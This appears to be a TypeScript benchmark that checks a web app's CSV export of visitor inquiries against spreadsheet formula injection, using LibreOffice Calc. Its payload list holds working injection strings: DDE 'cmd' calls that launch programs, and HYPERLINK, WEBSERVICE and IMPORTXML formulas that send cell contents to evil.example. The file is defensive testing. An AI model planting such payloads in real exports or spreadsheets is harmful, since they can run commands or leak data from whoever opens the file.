import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { loadConfig } from '#server/platform/config.ts';
import { createLog } from '#server/platform/log.ts';
import { openPlatform, type Platform } from '#server/platform/platform.ts';
import { makeInquiry } from '#test/make.ts';
import { runServer } from '#test/run-server.ts';
import { judge } from './figures.ts';

const admin = { email: 'spreadsheet@aangan.example', password: 'Jharokha@Rain5' };

/**
 * The CSV of the lead desk opened by LibreOffice Calc as a person opens it: no cell of 300 hostile inquiries may become
 * a formula, and every text must be what was exported (threat 24, issue 7).
 */
export async function benchSpreadsheet(): Promise<boolean> {
  installCalc();
  const folder = await mkdtemp(join(tmpdir(), 'aangan-spreadsheet-'));
  const env = { DATA_DIR: join(folder, 'data'), DEMO: '0', ADMIN_EMAIL: admin.email, ADMIN_PASSWORD: admin.password };
  const server = runServer(env);
  try {
    const url = await server.ready;
    const config = loadConfig({ NODE_ENV: 'test', DATA_DIR: env.DATA_DIR, DEMO: '0' });
    const platform = await openPlatform(config, { log: createLog('error'), join: true, migrate: false });
    const count = await writeHostile(platform);
    await platform.close();
    const csv = await fetchExport(url);
    const exported = read(csv);
    const file = join(folder, 'inquiries.csv');
    await writeFile(file, csv);
    const kept = [judge('rows of the file', exported.length - 1, count, 'at least')];
    kept.push(judge('formula cells', countFormulas(await convert(file, 'fods', folder)), 0, 'at most'));
    kept.push(
      judge('texts that changed', countChanges(exported, read(await convert(file, quoted, folder))), 0, 'at most'),
    );
    // The baseline: the same cells without our mark do become formulas, so that the zero above means something.
    await writeFile(file, csv.toString('utf8').replaceAll(/(^|[",\n])'(?=\s*[=+\-@])/g, '$1'));
    kept.push(
      judge('formula cells without our mark', countFormulas(await convert(file, 'fods', folder)), 100, 'at least'),
    );
    return kept.every(Boolean);
  } finally {
    server.child.kill('SIGTERM');
    await server.exit;
    await rm(folder, { recursive: true, force: true });
  }
}

/** Every text cell quoted, UTF-8, values as they are shown. */
const quoted = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true';

function installCalc(): void {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore' });
  } catch {
    console.log('  no LibreOffice on this machine: fetching its spreadsheet');
    execFileSync('apt-get', ['install', '-y', '--no-install-recommends', 'libreoffice-calc'], { stdio: 'inherit' });
  }
}

/** As Calc opens it: comma, quotes, UTF-8, from the first line. @returns the bytes of the file it writes */
async function convert(file: string, format: string, folder: string): Promise<Buffer> {
  const out = join(folder, 'out');
  execFileSync('soffice', ['--headless', '--infilter=CSV:44,34,76,1', '--convert-to', format, '--outdir', out, file], {
    stdio: 'ignore',
    env: { ...process.env, HOME: folder },
    timeout: 120_000,
  });
  return readFile(join(out, `inquiries.${format.split(':', 1)[0]}`));
}

const countFormulas = (sheet: Buffer): number => sheet.toString('utf8').match(/table:formula=/g)?.length ?? 0;

const read = (csv: Buffer): string[][] => parse(csv, { bom: true, relax_column_count: true });

/** A spreadsheet ends lines within a cell in its own way, and takes LF CR for one end. */
const plain = (text: string | undefined): string => (text ?? '').replaceAll(/[\r\n]+/g, '\n');

function countChanges(before: string[][], after: string[][]): number {
  const day = before[0]?.indexOf('Date') ?? -1;
  const changed = before
    .flatMap((row, at) => row.map((cell, column) => ({ cell, now: after[at]?.[column], column })))
    .filter(({ cell, now, column }) => column !== day && plain(cell) !== plain(now));
  for (const { cell, now } of changed.slice(0, 5))
    console.log(`  ${JSON.stringify(cell)} became ${JSON.stringify(now)}`);
  return changed.length;
}

/** Every way known to make a spreadsheet calculate, in every field that a visitor fills in. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '\u00a0=',
  '"=',
  "'=",
  ';=',
  ',=',
  '==',
  '=-',
  '%0A=',
];
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"open")',
  'WEBSERVICE("http://evil.example")',
  'SUM(A1:A9)*1',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  "2+5+cmd|'/C notepad'!A0",
  '98100 12345',
  'अनिता शर्मा',
  '(1+1)',
  'A1 "quoted", and, commas',
  "rundll32|'URL.dll,OpenURL evil'!A",
  '1e5',
  '0x1F & "<script>"',
];

async function writeHostile({ db }: Platform): Promise<number> {
  let count = 0;
  for (const start of starts) {
    for (const body of bodies) {
      const text = `${start}${body}`;
      const message = `${text}\n${text}`;
      await makeInquiry(db, {
        first_name: text,
        last_name: count % 2 ? '' : 'राव',
        email: `${start}a@example.in`,
        phone: count % 3 ? '+919810012345' : text,
        property_name: text,
        message,
      });
      count += 1;
    }
  }
  return count;
}

async function fetchExport(url: string): Promise<Buffer> {
  const signIn = await fetch(`${url}/api/admin/auth/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(admin),
  });
  const { data } = (await signIn.json()) as { data: { token: string } };
  const answer = await fetch(`${url}/api/inquiries/export.csv`, { headers: { authorization: `Bearer ${data.token}` } });
  if (!answer.ok) throw new Error(`No export: ${answer.status} ${await answer.text()}`);
  return Buffer.from(await answer.arrayBuffer());
}
